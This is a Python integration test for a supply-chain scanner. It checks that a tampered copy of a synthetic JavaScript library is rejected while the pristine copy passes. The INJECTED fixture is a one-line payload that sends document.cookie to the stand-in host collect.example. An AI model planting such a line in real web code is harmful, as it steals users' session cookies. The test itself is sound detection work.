"""A bundle with a pristine and a modified copy of an indexed (synthetic) library, scanned
by the real pipeline: every stage, real clamd and Chromium."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from scanner.config import Settings
from scanner.libraries import index_paths
from scanner.libraries.index import canonical
from scanner.pipeline import build_stages, default_stage_factories, scan_bundle
from scanner.policy import Policy, Verdict
from scanner.reports.json import report_dict
from tests.conftest import BundleMaker
from tests.scanner.libraries.conftest import make_index, synthetic_library

pytestmark = pytest.mark.integration

PLUGIN = (
    "var TestPlugin={mount:function(c){var p=document.createElement('p');p.textContent='hi';"
    "c.appendChild(p);return function(){c.removeChild(p)}}};\n"
)
INJECTED = b"new Image().src='https://collect.example/?c='+document.cookie;"


@pytest.fixture
def lib_settings(clamd_settings: Settings, tmp_path: Path) -> Settings:
    """The session's clamd, and a data dir whose local library index holds tinylib."""
    settings = replace(
        clamd_settings,
        data_dir=tmp_path / "data",
        work_root=tmp_path / "work",
        clamd_socket=str(clamd_settings.clamd_socket_path),
    )
    local = index_paths(settings)[1]
    local.parent.mkdir(parents=True)
    make_index(("tinylib", "1.2.3", "dist/tiny.min.js", LIB, "MIT")).save(local)
    return settings


LIB = synthetic_library(40_000, seed=11)


def _scan(settings: Settings, bundle: Path) -> dict[str, Any]:
    stages, unavailable = build_stages(settings, default_stage_factories())
    result = scan_bundle(
        bundle, settings, stages, Policy.load(settings.policy_path), unavailable=unavailable
    )
    return report_dict(result)


def test_pristine_copy_passes_and_modified_copy_is_rejected_with_its_injected_span(
    lib_settings: Settings, make_bundle: BundleMaker
) -> None:
    body = canonical(LIB)
    at = len(body) // 2
    pristine = make_bundle({"dist/bundle.js": LIB + b"\n" + PLUGIN.encode()})
    modified = make_bundle(
        {"dist/bundle.js": body[:at] + INJECTED + body[at:] + b"\n" + PLUGIN.encode()}
    )

    clean = _scan(lib_settings, pristine)
    assert clean["verdict"] == Verdict.PASS.label, clean["reasons"]
    recognised = [f for f in clean["findings"] if f["rule_id"] == "library-recognised"]
    assert recognised and recognised[0]["library"] == "tinylib@1.2.3"

    bad = _scan(lib_settings, modified)
    assert bad["verdict"] == Verdict.REJECT.label
    [hit] = [f for f in bad["findings"] if f["rule_id"] == "library-modified"]
    assert hit["category"] == "supply-chain" and hit["severity"] == "critical"
    assert hit["evidence"] == INJECTED.decode()
    assert hit["details"]["bundle_span"] == f"{at}-{at + len(INJECTED)}"
    assert hit["details"]["exact"] == "true"
